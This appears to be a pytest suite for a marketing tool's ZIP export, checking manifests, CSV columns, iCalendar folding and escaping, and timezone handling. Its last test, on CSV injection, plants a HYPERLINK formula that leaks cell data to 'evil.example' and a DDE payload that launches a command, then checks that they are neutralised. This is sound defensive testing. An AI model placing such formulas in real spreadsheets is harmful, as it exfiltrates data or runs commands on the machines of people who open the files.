"""The asset ZIP: every expected file, importable CSV, valid iCalendar, and a manifest that holds."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile

from aicmo.adapters.exporters.bundle import render_zip
from aicmo.adapters.exporters.calendar_files import (
    CALENDAR_COLUMNS,
    PLATFORM_COLUMNS,
    ics_escape,
    ics_fold,
)
from aicmo.domain.artifacts import Module
from aicmo.domain.schemas.export import ExportManifest, ExportPackage, files_content_hash

EXPECTED = {
    "intake/intake.md", "intake/intake.json", "strategy/strategy.md", "strategy/strategy.json",
    "creatives/creatives.md", "creatives/creatives.json",
    "execution/execution.md", "execution/execution.json",
    "monitoring/monitoring.md", "monitoring/monitoring.json",
    "delivery/delivery.md", "delivery/delivery.json", "calendar.csv", "calendar.ics",
    "posts/instagram.csv", "posts/facebook.csv", "posts/linkedin.csv", "creatives/image_prompts.md",
    "creatives/video_scripts.md", "report.pdf", "deck.pptx", "README.md", "manifest.json",
}  # fmt: skip


def archive(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert z.testzip() is None
        return {name: z.read(name) for name in z.namelist()}


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def unfold(ics: str) -> list[str]:
    return ics.replace("\r\n ", "").split("\r\n")


def test_zip_holds_every_expected_file(bundle) -> None:
    data, _ = bundle
    assert set(archive(data)) == EXPECTED


def test_pdf_and_pptx_are_the_bytes_given(bundle, pdf_bytes: bytes, pptx_bytes: bytes) -> None:
    files = archive(bundle[0])
    assert files["report.pdf"] == pdf_bytes
    assert files["deck.pptx"] == pptx_bytes


def test_manifest_hashes_match_the_files(bundle) -> None:
    data, manifest = bundle
    files = archive(data)
    written = ExportManifest.model_validate_json(files["manifest.json"])
    assert written == manifest
    assert {f.name for f in manifest.files} == set(files) - {"manifest.json"}
    for entry in manifest.files:
        assert hashlib.sha256(files[entry.name]).hexdigest() == entry.sha256
        assert len(files[entry.name]) == entry.bytes
    expected = hashlib.sha256("\n".join(sorted(f.sha256 for f in manifest.files)).encode()).hexdigest()
    assert manifest.content_hash == expected == files_content_hash(manifest.files)
    assert manifest.is_consistent()


def test_manifest_lists_every_artifact_version(bundle, package: ExportPackage) -> None:
    manifest = bundle[1]
    assert [(a.type, a.version) for a in manifest.artifacts] == [
        (a.type, a.version) for a in package.artifacts
    ]
    strategy = next(a for a in manifest.artifacts if a.type is Module.STRATEGY)
    assert strategy.provenance.provider == "offline"
    assert strategy.inputs_hash == package.artifact(Module.STRATEGY).inputs_hash
    assert manifest.period.timezone == "Europe/London"


def test_same_package_gives_the_same_zip(package: ExportPackage) -> None:
    first, m1 = render_zip(package, pdf=None, pptx=None)
    second, m2 = render_zip(package, pdf=None, pptx=None)
    assert first == second and m1.content_hash == m2.content_hash
    assert "report.pdf" not in archive(first)


def test_calendar_csv_has_scheduler_columns_and_local_times(bundle, package: ExportPackage) -> None:
    data = archive(bundle[0])["calendar.csv"]
    assert data.split(b"\r\n")[0].decode() == ",".join(CALENDAR_COLUMNS)
    parsed = rows(data)
    assert len(parsed) == len(package.execution().posts) == 20
    assert [r["date"] for r in parsed] == sorted(r["date"] for r in parsed)
    assert {r["timezone"] for r in parsed} == {"Europe/London"}
    assert {r["platform"] for r in parsed} == {"instagram", "facebook", "linkedin"}
    after_clock_change = next(r for r in parsed if r["post_id"] == "post-15")
    assert (after_clock_change["date"], after_clock_change["time"]) == ("2026-03-30", "07:45")
    assert all(r["text"] and r["cta"] and r["hashtags"].startswith("#") for r in parsed)


def test_platform_csvs_split_the_posts_with_ready_captions(bundle) -> None:
    files = archive(bundle[0])
    total = 0
    for platform in ("instagram", "facebook", "linkedin"):
        data = files[f"posts/{platform}.csv"]
        parsed = rows(data)
        assert list(parsed[0]) == list(PLATFORM_COLUMNS)
        for row in parsed:
            assert row["caption"].startswith(row["text"]) and row["caption"].endswith(row["hashtags"])
            assert int(row["characters"]) == len(row["caption"])
        total += len(parsed)
    assert total == 20


def test_ics_is_well_formed(bundle) -> None:
    raw = archive(bundle[0])["calendar.ics"]
    text = raw.decode("utf-8")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    for line in text.split("\r\n")[:-1]:
        assert len(line.encode("utf-8")) <= 75, line
    lines = unfold(text)
    assert lines[0] == "BEGIN:VCALENDAR" and lines[-2] == "END:VCALENDAR"
    stack: list[str] = []
    for line in lines:
        if line.startswith("BEGIN:"):
            stack.append(line[6:])
        elif line.startswith("END:"):
            assert stack.pop() == line[4:]
    assert not stack
    assert "VERSION:2.0" in lines and any(line.startswith("PRODID:") for line in lines)
    assert sum(line == "BEGIN:VEVENT" for line in lines) == 20


def test_ics_events_carry_utc_times_unique_uids_and_escaped_text(bundle) -> None:
    lines = unfold(archive(bundle[0])["calendar.ics"].decode("utf-8"))
    uids = [line for line in lines if line.startswith("UID:")]
    assert len(set(uids)) == 20
    starts = [line.removeprefix("DTSTART:") for line in lines if line.startswith("DTSTART:")]
    assert all(s.endswith("Z") for s in starts)
    # 07:45 GMT on 2 March, 07:45 BST (06:45 UTC) on 30 March
    assert "20260302T074500Z" in starts and "20260330T064500Z" in starts
    for line in lines:
        if line.startswith(("DESCRIPTION:", "SUMMARY:")):
            value = line.split(":", 1)[1]
            unescaped = value.replace("\\\\", "").replace("\\,", "").replace("\\;", "").replace("\\n", "")
            assert "," not in unescaped and ";" not in unescaped, line


def test_ics_folding_never_splits_a_utf8_character() -> None:
    line = "DESCRIPTION:" + "£3,100 — café ☕ " * 20
    folded = ics_fold(line)
    physical = folded.split("\r\n")
    assert all(len(p.encode("utf-8")) <= 75 for p in physical)
    assert all(p.startswith(" ") for p in physical[1:])
    assert folded.replace("\r\n ", "") == line


def test_ics_escape_follows_rfc5545() -> None:
    assert ics_escape("a,b;c\\d\ne\r\nf") == "a\\,b\\;c\\\\d\\ne\\nf"


def test_creative_briefs_and_artifact_exports_read_well(bundle, package: ExportPackage) -> None:
    files = archive(bundle[0])
    prompts = files["creatives/image_prompts.md"].decode()
    scripts = files["creatives/video_scripts.md"].decode()
    assert prompts.startswith("# Image prompts — Kestrel Cargo Bikes")
    assert package.creatives().image_prompts[0].prompt in prompts
    assert "## Park Street with two passengers" in scripts and "### Beats" in scripts
    assert "## The 8:40 dash, minus the traffic" in scripts and "- **For post:** post-05" in scripts
    strategy_md = files["strategy/strategy.md"].decode()
    assert strategy_md.startswith("# Strategy — Kestrel Cargo Bikes")
    assert "**Approved:** maya.patel@northlight.agency" in strategy_md
    assert json.loads(files["strategy/strategy.json"])["content"] == package.artifact(Module.STRATEGY).content
    assert "What the first three weeks tell us" in files["monitoring/monitoring.md"].decode()


def test_zip_entries_are_dated_from_the_package(bundle, package: ExportPackage) -> None:
    with zipfile.ZipFile(io.BytesIO(bundle[0])) as z:
        stamps = {info.date_time for info in z.infolist()}
    local = package.generated_at.astimezone(package.tz)
    assert stamps == {
        (local.year, local.month, local.day, local.hour, local.minute, local.second - local.second % 2)
    }


def test_no_csv_cell_can_run_as_a_formula(package: ExportPackage) -> None:
    """CSV injection: brief or model text that starts like a formula reaches every CSV as text."""
    hostile = package.model_copy(deep=True)
    execution = next(a for a in hostile.artifacts if a.type is Module.EXECUTION)
    posts = execution.content["posts"]
    posts[0]["text"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    posts[1]["cta"] = "+1 555 0100 — call us"
    posts[2]["pillar"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    posts[3]["image_prompt"] = "-2+3 cups of flour"
    posts[4]["text"] = "\t=1+1"
    files = archive(render_zip(hostile, pdf=None, pptx=None)[0])
    csvs = {name: rows(data) for name, data in files.items() if name.endswith(".csv")}
    assert set(csvs) == {"calendar.csv", "posts/instagram.csv", "posts/facebook.csv", "posts/linkedin.csv"}
    cells = [cell for parsed in csvs.values() for row in parsed for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells  # kept, shown as text
    assert "'+1 555 0100 — call us" in cells and "'-2+3 cups of flour" in cells
